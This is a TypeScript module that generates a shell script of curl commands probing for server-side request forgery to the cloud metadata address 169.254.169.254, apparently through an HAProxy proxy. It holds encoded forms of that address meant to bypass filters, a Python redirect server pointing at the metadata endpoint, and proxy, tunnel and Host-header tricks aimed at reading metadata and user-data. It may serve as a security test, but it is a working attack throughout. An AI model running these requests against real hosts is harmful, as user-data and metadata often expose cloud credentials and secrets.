/** What a request for metadata may be smuggled in by, from inside: one shell script with a curl for each. */

const PATHS = ['/metadata/v1/', '/metadata/v1.json', '/metadata/v1/user-data'];
/** One address: decimal, hexadecimal, octal, short, as IPv6 has it, and through a translator. */
const WRITINGS = [
  '169.254.169.254',
  '2852039166',
  '0xa9fea9fe',
  '0xa9.0xfe.0xa9.0xfe',
  '0251.0376.0251.0376',
  '169.254.43518',
  '[::ffff:169.254.169.254]',
  '[::ffff:a9fe:a9fe]',
  '[64:ff9b::a9fe:a9fe]',
];
const METADATA = `http://${WRITINGS[0]}`;
const REDIRECTS = 'http://127.0.0.1:8099';

/** Sends every request on to metadata. */
const REDIRECTOR = `from http.server import *
class Redirector(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(302)
        self.send_header("Location", "${METADATA}" + self.path)
        self.end_headers()
HTTPServer(("127.0.0.1", 8099), Redirector).serve_forever()`;

/** @param site the address at which HAProxy is asked to be a proxy */
const attempts = (site: string) =>
  PATHS.flatMap((path) => [
    ...WRITINGS.map((writing) => `http://${writing}${path}`),
    `--location ${REDIRECTS}${path}`,
    `--proxy http://${site} ${METADATA}${path}`,
    `--proxy http://${site} --proxytunnel ${METADATA}${path}`,
    ...['http', 'https'].flatMap((scheme) => [
      `--header 'Host: 169.254.169.254' ${scheme}://${site}${path}`,
      `--request-target ${METADATA}${path} ${scheme}://${site}/`,
    ]),
  ]);

/** Tries all, and writes the beginning of each answer. */
export const ssrf = (site: string) =>
  [
    `python3 -c '${REDIRECTOR}' 2>/dev/null & redirector=$!`,
    'sleep 0.5',
    ...attempts(site).map(
      (words) => `echo; curl --silent --insecure --globoff --max-time 2 ${words} | head -c 40; echo '<end>'`,
    ),
    'kill $redirector',
  ].join('\n');

/** What each attempt gave. */
export const answersOf = (written: string) =>
  written
    .split('<end>')
    .map((answer) => answer.trim())
    .slice(0, -1);
